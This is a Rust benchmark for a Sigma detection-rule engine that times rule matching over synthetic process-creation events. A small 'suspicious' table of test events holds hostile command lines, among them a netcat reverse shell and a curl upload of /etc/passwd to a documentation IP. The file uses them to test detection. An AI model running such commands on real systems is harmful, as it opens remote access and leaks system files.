//! How long matching takes: `bench RULES_DIR [EVENTS.jsonl] [--hits]`.
//!
//! Compiles the rules of a directory and evaluates process events in batches of dictionary columns. The events are made
//! up here, or read: one JSON object with text values a line. Times are CPU time of this thread, so a busy machine
//! disturbs less. `--hits` prints `event<TAB>rule` for each match instead of measuring.

use picket_sigma::{BatchView, Cells, ColumnView, File, Options, RuleSet, Scratch, Texts, compile};
use std::collections::HashMap;
use std::hint::black_box;

type Event = HashMap<String, String>;

fn main() {
    let mut arguments: Vec<String> = std::env::args().skip(1).collect();
    let hits = arguments.iter().position(|a| a == "--hits").map(|i| arguments.remove(i)).is_some();
    let Some(directory) = arguments.first() else {
        eprintln!("usage: bench RULES_DIR [EVENTS.jsonl] [--hits]");
        std::process::exit(2);
    };
    let mut paths: Vec<_> = std::fs::read_dir(directory).unwrap().map(|e| e.unwrap().path()).collect();
    paths.retain(|p| p.extension().is_some_and(|e| e == "yml"));
    paths.sort();
    let files: Vec<(String, Vec<u8>)> =
        paths.iter().map(|p| (p.display().to_string(), std::fs::read(p).unwrap())).collect();
    let files: Vec<File<'_>> = files.iter().map(|(name, content)| File { name, content }).collect();
    let before = cpu_ns();
    let set = compile(&files, &Options::default());
    println!(
        "{} rules, {} diagnostics, compiled in {:.1} ms",
        set.rules.len(),
        set.diagnostics.len(),
        (cpu_ns() - before) as f64 / 1e6
    );
    let stream = set.streams.iter().position(|s| s.source.category.as_deref() == Some("process_creation"));
    let stream = stream.expect("rules for process_creation");
    let events = match arguments.get(1) {
        Some(path) => read(path),
        None => (0..100_000).map(generate).collect(),
    };
    if hits {
        let batches = pack(&set, stream, &events, 256);
        run(&set, stream, &batches, |row, rule| println!("{row}\t{}", set.rules[rule as usize].title));
        return;
    }
    for size in [1, 8, 64, 256, 1024] {
        let batches = pack(&set, stream, &events, size);
        let mut best = u64::MAX;
        let mut matches = 0;
        for _ in 0..5 {
            matches = 0;
            let before = cpu_ns();
            run(&set, stream, &batches, |row, rule| {
                matches += 1;
                black_box((row, rule));
            });
            best = best.min(cpu_ns() - before);
        }
        let each = best as f64 / events.len() as f64 / 1000.0;
        println!("batch {size:>4}: {each:.3} us/event, {:.2} M events/s, {matches} matches", 1.0 / each);
    }
}

fn run(set: &RuleSet, stream: usize, batches: &[Packed], mut hit: impl FnMut(usize, u32)) {
    let mut scratch = Scratch::default();
    let mut first = 0;
    for batch in batches {
        let columns: Vec<ColumnView<'_>> = batch.columns.iter().map(Column::view).collect();
        let view = BatchView { rows: batch.rows, columns: &columns };
        set.eval(stream, &view, &mut scratch, |row, rule| hit(first + row as usize, rule));
        first += batch.rows;
    }
}

struct Packed {
    rows: usize,
    columns: Vec<Column>,
}

#[derive(Default)]
struct Column {
    arena: Vec<u8>,
    ends: Vec<u32>,
    codes: Vec<u32>,
    presence: Vec<u8>,
}

impl Column {
    fn view(&self) -> ColumnView<'_> {
        let texts = Texts { arena: &self.arena, ends: &self.ends, codes: &self.codes };
        ColumnView { cells: Cells::Text(texts), presence: &self.presence }
    }
}

/// Dictionary columns, as the host makes them.
fn pack(set: &RuleSet, stream: usize, events: &[Event], size: usize) -> Vec<Packed> {
    let column = |field: &String, rows: &[Event]| {
        let mut column = Column::default();
        let mut known: HashMap<&str, u32> = HashMap::new();
        for event in rows {
            let value = event.get(field).map(String::as_str);
            column.presence.push(u8::from(value.is_some()));
            let next = known.len() as u32;
            let code = *known.entry(value.unwrap_or("")).or_insert_with_key(|text| {
                column.arena.extend_from_slice(text.as_bytes());
                column.ends.push(column.arena.len() as u32);
                next
            });
            column.codes.push(code);
        }
        if column.presence.iter().all(|p| *p == 1) {
            column.presence.clear();
        }
        column
    };
    let fields = &set.streams[stream].fields;
    let pack = |rows: &[Event]| Packed { rows: rows.len(), columns: fields.iter().map(|f| column(f, rows)).collect() };
    events.chunks(size).map(pack).collect()
}

fn read(path: &str) -> Vec<Event> {
    let text = std::fs::read_to_string(path).unwrap();
    let event = |line: &str| {
        let object: serde_json::Map<String, serde_json::Value> = serde_json::from_str(line).unwrap();
        object.into_iter().map(|(k, v)| (k, v.as_str().map_or_else(|| v.to_string(), str::to_owned))).collect()
    };
    text.lines().map(event).collect()
}

/// CPU time of this thread.
fn cpu_ns() -> u64 {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").expect("Linux with schedstat");
    text.split_whitespace().next().and_then(|n| n.parse().ok()).expect("nanoseconds")
}

/// Executable, command line, parent, parent's command line; `{n}` varies.
const ORDINARY: &[[&str; 4]] = &[
    ["/usr/bin/bash", "/bin/bash -l", "/usr/sbin/sshd", "sshd: deploy [priv]"],
    ["/usr/bin/git", "git status --porcelain", "/usr/bin/zsh", "-zsh"],
    ["/usr/bin/git", "git log --oneline -n {n}", "/usr/bin/bash", "-bash"],
    ["/usr/bin/make", "make -j{n} all", "/usr/bin/bash", "bash build.sh"],
    [
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -I include src/file{n}.c -mtune=generic -O2 -o /tmp/cc{n}.s",
        "/usr/bin/x86_64-linux-gnu-gcc-12",
        "gcc -O2 -c src/file{n}.c",
    ],
    [
        "/usr/bin/x86_64-linux-gnu-as",
        "as -I include --64 -o build/file{n}.o /tmp/cc{n}.s",
        "/usr/bin/x86_64-linux-gnu-gcc-12",
        "gcc -O2 -c src/file{n}.c",
    ],
    [
        "/home/ci/.cargo/bin/rustc",
        "rustc --crate-name crate_{n} --edition=2021 src/lib.rs --crate-type lib --emit=dep-info,metadata,link -C opt-level=3 --out-dir target/release/deps",
        "/home/ci/.cargo/bin/cargo",
        "cargo build --release",
    ],
    ["/usr/bin/node", "node ./node_modules/.bin/tsc -p tsconfig.json --incremental", "/usr/bin/npm", "npm run build"],
    [
        "/usr/bin/python3.11",
        "/usr/bin/python3 /opt/app/jobs/report_{n}.py --date 2026-01-15",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
    ],
    [
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /etc/logrotate.d/app{n}",
        "/usr/lib/systemd/systemd",
        "/lib/systemd/systemd --system",
    ],
    ["/usr/bin/sleep", "sleep {n}", "/usr/bin/bash", "bash ./wait.sh"],
    ["/usr/bin/sed", "sed -e s/foo/bar{n}/g", "/usr/bin/bash", "bash ./configure"],
    ["/usr/bin/sort", "sort -u -k {n}", "/usr/bin/bash", "bash ./metrics.sh"],
    [
        "/usr/sbin/runc",
        "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/{n}/log.json --log-format json state {n}",
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace moby",
    ],
    [
        "/usr/bin/java",
        "java -Xmx{n}m -Dspring.profiles.active=prod -jar /srv/app/service-{n}.jar --server.port=8080",
        "/usr/lib/systemd/systemd",
        "/sbin/init",
    ],
    [
        "/usr/lib/postgresql/15/bin/postgres",
        "postgres: app appdb 10.0.0.{n}({n}) SELECT",
        "/usr/lib/postgresql/15/bin/postgres",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main",
    ],
    ["/usr/bin/mkdir", "mkdir -p build/obj/dir{n}", "/usr/bin/make", "make all"],
    ["/usr/bin/tar", "tar -xf pkg-{n}.tar.xz -C build", "/usr/bin/bash", "bash build.sh"],
    [
        "/usr/bin/rsync",
        "rsync -az --delete build/ deploy@web{n}.internal.example:/srv/www/",
        "/usr/bin/bash",
        "bash deploy.sh",
    ],
    [
        "/usr/bin/kubectl",
        "kubectl get pods -n prod -o json --field-selector status.phase=Running",
        "/usr/bin/python3.11",
        "python3 /opt/ops/health.py",
    ],
    ["/usr/bin/dash", "sh -c test -f file{n}", "/usr/bin/make", "make check"],
    ["/usr/bin/vim.basic", "vim src/mod_{n}.rs", "/usr/bin/zsh", "-zsh"],
    [
        "/usr/bin/ffmpeg",
        "ffmpeg -i in{n}.mp4 -c:v libx264 -crf 23 out{n}.mp4",
        "/usr/bin/python3.11",
        "python3 transcode.py",
    ],
];

const SUSPICIOUS: &[[&str; 4]] = &[
    ["/usr/bin/nc", "nc -e /bin/sh 203.0.113.{n} 4444", "/usr/bin/bash", "bash"],
    ["/usr/bin/crontab", "crontab -r", "/usr/bin/bash", "bash"],
    ["/usr/bin/base64", "base64 -d /tmp/x{n}", "/usr/bin/bash", "bash"],
    ["/usr/bin/curl", "curl -F file=@/etc/passwd https://203.0.113.{n}/", "/usr/bin/bash", "bash"],
    ["/usr/bin/chattr", "chattr -i /etc/shadow", "/usr/bin/bash", "bash"],
];

/// The same events on every machine: one suspicious in a hundred.
fn generate(i: usize) -> Event {
    let mut state = (i as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    state ^= state >> 29;
    let mut next = |n: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % n as u64) as usize
    };
    let table = if i % 100 == 50 { SUSPICIOUS } else { ORDINARY };
    let template = table[next(table.len())];
    let n = (2 + next(250)).to_string();
    let user = ["alice", "bob", "www-data", "postgres", "deploy", "svc_build", "root"][next(7)];
    let fields = ["Image", "CommandLine", "ParentImage", "ParentCommandLine"];
    let mut event: Event = fields.iter().zip(template).map(|(f, v)| ((*f).to_owned(), v.replace("{n}", &n))).collect();
    event.insert("User".to_owned(), user.to_owned());
    event.insert("CurrentDirectory".to_owned(), format!("/home/{user}/work/p{n}"));
    event.insert("LogonId".to_owned(), format!("{}", 1000 + next(250)));
    event
}
